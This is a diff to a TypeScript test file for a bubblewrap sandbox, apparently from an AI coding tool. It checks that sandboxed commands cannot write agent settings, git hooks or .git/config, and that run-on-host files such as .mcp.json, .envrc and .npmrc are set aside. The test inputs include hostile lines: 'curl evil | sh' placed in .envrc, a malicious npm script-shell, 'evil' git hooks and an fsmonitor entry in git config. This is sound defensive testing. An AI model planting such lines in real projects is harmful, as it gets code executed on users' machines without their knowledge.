@@ -1,7 +1,7 @@
 // The workspace's protected paths with real bubblewrap, where they do not exist yet: a hostile
-// command tries to create `.claude/settings.json`, `.mcp.json`, `.codewhale/config.toml` and a
-// git hook (through a missing `.git/hooks`, a renamed `.git`, a symlink, a missing `.git`), and
-// fails; the mount points bubblewrap needs stay empty and read-only from the session's first
+// command tries to create `.claude/settings.json`, `.codewhale/config.toml` and a git hook
+// (through a missing `.git/hooks`, a renamed `.git`, a symlink, a missing `.git`), and fails
+// (a run-on-host file it creates, `.mcp.json`, `.envrc`…, is set aside as it ends); the mount points bubblewrap needs stay empty and read-only from the session's first
 // command to its end (removeIdlePlaceholders), and then the workspace holds none (nothing
 // stray), even with two commands at once, or another process's lease on the workspace. Under
 // CI=true a host without bwrap fails.
@@ -80,7 +80,7 @@ function listing(dir: string): string[] {
 }
 
 describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSkip }, () => {
-  it("a command cannot create .claude, .mcp.json, .codewhale or a hook, and nothing is left behind", async () => {
+  it("a command cannot create .claude, .codewhale or a hook, and nothing is left behind", async () => {
     const dir = workspace();
     const before = listing(dir);
     const run = await sandboxed(
@@ -88,7 +88,6 @@ describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSk
       [
         "mkdir .claude && echo x > .claude/settings.json",
         "mkdir -p .claude/commands",
-        "echo '{}' > .mcp.json",
         "mkdir -p .codewhale && echo 'x = 1' > .codewhale/config.toml",
         "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
         "echo evil > .git/hooks/post-checkout",
@@ -99,7 +98,6 @@ describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSk
     assert.ok(existsSync(join(dir, "inside.txt")), run.output);
     assert.match(run.output, /Read-only file system|Permission denied/);
     assert.ok(existsSync(join(dir, ".claude")), "kept for the session's next command");
-    assert.ok(!existsSync(join(dir, ".mcp.json")), "a file one goes at once");
     removeIdlePlaceholders();
     assert.deepEqual(listing(dir), [...before, "inside.txt"].sort(), run.output);
   });
@@ -117,7 +115,6 @@ describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSk
           "echo evil > .git/hooks/pre-commit",
           "echo x > .git/config",
           "echo x > .claude/settings.json",
-          "echo '{}' > .mcp.json",
           "mkdir .codewhale/x",
           "true",
         ].join("; "),
@@ -200,13 +197,15 @@ describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSk
 
   it("two commands at once share the mount points; the session's end removes them", async () => {
     const dir = workspace();
+    // A missing .git/config: a file mount point, which goes as soon as no command runs.
+    rmSync(join(dir, ".git", "config"));
     const before = listing(dir);
-    const slow = sandboxed(dir, "sleep 1; echo x > .mcp.json; mkdir .claude/x; true");
-    const fast = await sandboxed(dir, "echo '{}' > .mcp.json; true");
+    const slow = sandboxed(dir, "sleep 1; echo x > .git/config; mkdir .claude/x; true");
+    const fast = await sandboxed(dir, "echo x > .git/config; mkdir .claude/y; true");
     assert.match(fast.output, /Permission denied|Read-only/);
-    assert.ok(existsSync(join(dir, ".mcp.json")), "still held by the slow command");
+    assert.ok(existsSync(join(dir, ".git", "config")), "still held by the slow command");
     removeIdlePlaceholders();
-    assert.ok(existsSync(join(dir, ".mcp.json")), "a command still runs with them");
+    assert.ok(existsSync(join(dir, ".claude")), "a command still runs with them");
     const late = await slow;
     assert.match(late.output, /Permission denied|Read-only/);
     removeIdlePlaceholders();
@@ -225,7 +224,7 @@ describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSk
     try {
       await sandboxed(dir, "true");
       removeIdlePlaceholders();
-      assert.ok(existsSync(join(dir, ".mcp.json")), "left for the other process");
+      assert.ok(existsSync(join(dir, ".claude")), "left for the other process");
     } finally {
       other.kill("SIGKILL");
       await new Promise((resolve) => other.once("exit", resolve));
@@ -298,12 +297,13 @@ describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSk
     }
   });
 
-  it("a run-on-host file the command created where none was (.envrc, .npmrc, a link) is set aside as it ends and named", async () => {
+  it("a run-on-host file the command created where none was (.mcp.json, .envrc, .npmrc, a link) is set aside as it ends and named", async () => {
     const dir = workspace();
     writeFileSync(join(dir, "mise.toml"), "[tools]\n");
     const run = await sandboxed(
       dir,
       [
+        `echo '{"mcpServers":{}}' > .mcp.json`,
         "echo 'curl evil | sh' > .envrc",
         "echo 'script-shell=/evil' > .npmrc",
         "ln -s file.txt .nvimrc",
@@ -311,13 +311,47 @@ describe("protected paths that do not exist yet (bubblewrap)", { skip: sandboxSk
       ].join("; "),
     );
     assert.equal(run.exitCode, 0, run.output);
-    assert.deepEqual(run.setAside, [".envrc", ".nvimrc", ".npmrc"]);
-    for (const name of [".envrc", ".npmrc", ".nvimrc"]) {
+    assert.deepEqual(run.setAside, [".mcp.json", ".envrc", ".nvimrc", ".npmrc"]);
+    for (const name of [".mcp.json", ".envrc", ".npmrc", ".nvimrc"]) {
       assert.ok(!existsSync(join(dir, name)), `${name} is gone`);
     }
     assert.equal(readFileSync(join(dir, ".envrc.codewhale-refused"), "utf8"), "curl evil | sh\n");
     assert.equal(readFileSync(join(dir, "mise.toml"), "utf8"), "[tools]\n");
     assert.ok(existsSync(join(dir, "inside.txt")));
-    assert.match(setAsideNote(run.setAside ?? []), /refused writing \.envrc, \.nvimrc, \.npmrc: /);
+    assert.equal(
+      readFileSync(join(dir, ".mcp.json.codewhale-refused"), "utf8"),
+      '{"mcpServers":{}}\n',
+    );
+    assert.match(
+      setAsideNote(run.setAside ?? []),
+      /refused writing \.mcp\.json, \.envrc, \.nvimrc, \.npmrc: /,
+    );
+  });
+
+  it("in a repository without .mcp.json, git add -A and a commit succeed and stage no .mcp.json", async () => {
+    const dir = workspace();
+    const run = await sandboxed(
+      dir,
+      "git status --porcelain && git add -A && git -c user.name=t -c user.email=t@t commit -qm one && git show --name-only --format= HEAD",
+    );
+    assert.equal(run.exitCode, 0, run.output);
+    assert.doesNotMatch(run.output, /mcp\.json/);
+    assert.match(run.output, /file\.txt/);
+    const staged = execFileSync("git", ["-C", dir, "ls-files"], { encoding: "utf8" });
+    assert.equal(staged, "file.txt\n");
+    assert.ok(!existsSync(join(dir, ".mcp.json")), "nothing on the host");
+  });
+
+  it("in a repository without .git/config, git works inside and the config cannot be written", async () => {
+    const dir = workspace();
+    rmSync(join(dir, ".git", "config"));
+    const run = await sandboxed(
+      dir,
+      "git add -A && git -c user.name=t -c user.email=t@t commit -qm one && git log --format=%s; echo '[core] fsmonitor = evil' > .git/config; true",
+    );
+    assert.match(run.output, /^one$/m);
+    assert.match(run.output, /\.git\/config: (Read-only file system|Permission denied)/);
+    removeIdlePlaceholders();
+    assert.ok(!existsSync(join(dir, ".git", "config")), run.output);
   });
 });
